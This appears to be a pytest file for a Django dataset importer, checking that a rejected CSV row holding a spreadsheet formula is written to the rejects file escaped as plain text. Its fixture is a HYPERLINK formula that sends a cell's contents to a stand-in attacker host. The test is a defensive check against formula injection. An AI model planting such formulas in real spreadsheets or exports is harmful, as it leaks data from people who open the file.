"""An import's rejects file is CSV a maintainer opens in a spreadsheet: the raw rows of a
manifest (text from outside) stay text there."""

import csv
from pathlib import Path

import pytest

from optout.importers.service import dataset_import
from tests.support.manifests import write

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C3,"Click")'


def test_a_rejected_row_that_is_a_formula_is_written_as_text(tmp_path: Path) -> None:
    manifest = write(
        tmp_path / "list.csv",
        "photo_id,owner\n1,12345678@N01\n" + f'"{HYPERLINK.replace('"', '""')}",oops\n',
    )
    summary = dataset_import(
        slug="mine", path=manifest, fmt="csv", rejects=tmp_path / "rejects.csv"
    )

    assert summary.rejected == 1
    with open(tmp_path / "rejects.csv", newline="", encoding="utf-8") as f:
        header, row = list(csv.reader(f))
    assert header == ["line", "reason", "raw"]
    line, reason, raw = row
    assert line == "3"
    assert reason.startswith("malformed NSID")
    assert raw == "'" + HYPERLINK + ",oops"
